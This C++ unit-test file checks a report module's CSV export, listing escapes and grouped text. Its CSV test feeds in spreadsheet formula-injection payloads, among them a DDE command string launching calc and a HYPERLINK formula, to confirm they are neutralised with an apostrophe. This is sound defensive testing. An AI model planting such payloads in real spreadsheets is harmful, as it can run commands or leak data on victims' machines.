// Findings lists: the CSV reads back field for field as a spreadsheet splits it, whatever the
// fields hold, and grouped text leaves out empty groups.
#include "store/report.h"

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace lindavex::report {
namespace {

// Rows as a spreadsheet reads a ';'-separated file: quoted fields may hold anything, "" is a
// quote inside them.
std::vector<std::vector<std::string>> readCsv(std::string_view text) {
    std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted && c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
            rows.back().back() += '"';
            ++i;
        } else if (c == '"') {
            quoted = !quoted;
        } else if (!quoted && c == ';') {
            rows.back().emplace_back();
        } else if (!quoted && c == '\n') {
            rows.emplace_back(1);
        } else {
            rows.back().back() += c;
        }
    }
    rows.pop_back();  // after the last line's end
    return rows;
}

// Random codes, among them the formulas that a file someone else wrote could carry: each
// field reads back as it was, except that a field a spreadsheet would evaluate reads back
// behind an apostrophe, so that no cell begins as a formula.
TEST(Csv, ReadsBackFieldForFieldWithAByteOrderMarkFirst) {
    std::mt19937 random(20);
    const std::string alphabet = "ab;\",\r\n ñ=+-@\t'1";
    const std::vector<std::string_view> header = {"tipo", "registro", "mensaje"};
    std::vector<std::vector<std::string>> written = {{"tipo", "registro", "mensaje"}};
    written.push_back({"=HYPERLINK(\"http://x\"&A1;\"pulse\")", "+cmd|' /C calc'!A0", "-1+1"});
    written.push_back({"@SUM(A1)", "\t=1", "\r=1"});
    for (int n = 0; n < 1000; ++n) {
        std::vector<std::string> row(3);
        for (std::string& field : row)
            for (std::size_t k = random() % 6; k > 0; --k)
                field += alphabet[random() % alphabet.size()];
        written.push_back(row);
    }
    Csv csv(header);
    for (std::size_t i = 1; i < written.size(); ++i)
        csv.row({written[i][0], written[i][1], written[i][2]});
    ASSERT_EQ(csv.text().substr(0, 3), kByteOrderMark);
    const std::vector<std::vector<std::string>> read = readCsv(csv.text().substr(3));
    ASSERT_EQ(read.size(), written.size());
    const std::string_view formulaStarts = "=+-@\t\r";
    for (std::size_t i = 0; i < read.size(); ++i) {
        ASSERT_EQ(read[i].size(), 3u) << i;
        for (std::size_t k = 0; k < 3; ++k) {
            const std::string& cell = read[i][k];
            const std::string& code = written[i][k];
            SCOPED_TRACE(code);
            const bool formula = !code.empty() && formulaStarts.find(code[0]) != std::string::npos;
            EXPECT_EQ(cell, formula ? "'" + code : code);
            EXPECT_TRUE(cell.empty() || formulaStarts.find(cell[0]) == std::string::npos);
        }
    }
    EXPECT_EQ(Csv({"a", "b,c"}).text().substr(3), "a;b,c\n");  // a comma needs no quotes
}

// Codes as listings show them: control characters escaped, code page text in UTF-8.
TEST(Shown, ControlCharactersEscapedAndCodePageTextInUtf8) {
    const struct {
        std::string cp1252, quoted;
    } cases[] = {
        {"MAT", "«MAT»"},
        {"", "«»"},
        {"A\nB", "«A\\nB»"},
        {"\r\n\t", "«\\r\\n\\t»"},
        {"1\x01"
         "A",
         "«1\\x01A»"},
        {"\x7F", "«\\x7F»"},
        {"Espa\xF1ol", "«Español»"},
        {"\x80\n", "«€\\n»"},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(report::quoted(c.cp1252), c.quoted) << c.cp1252;
        EXPECT_EQ(shown(c.cp1252), c.quoted.substr(2, c.quoted.size() - 4)) << c.cp1252;
        std::string line = "ASIG ";
        appendQuoted(line, c.cp1252);
        EXPECT_EQ(line, "ASIG " + c.quoted) << c.cp1252;
        line = "CASIG ";
        appendShown(line, c.cp1252);
        EXPECT_EQ(line, "CASIG " + shown(c.cp1252)) << c.cp1252;
    }
    EXPECT_EQ(escaped("Łódź\n"), "Łódź\\n");  // UTF-8 text keeps its letters
}

TEST(GroupedText, HeadingsCountTheirLinesAndEmptyGroupsAreLeftOut) {
    EXPECT_EQ(groupedText({{"Sin escribir", {"registro 1", "registro 4"}},
                           {"Vacío", {}},
                           {"Escritos sin aula", {"registro 2"}}}),
              "Sin escribir (2):\n  registro 1\n  registro 4\n\nEscritos sin aula (1):\n"
              "  registro 2\n");
    EXPECT_EQ(groupedText({{"Vacío", {}}}), "");
}

}  // namespace
}  // namespace lindavex::report
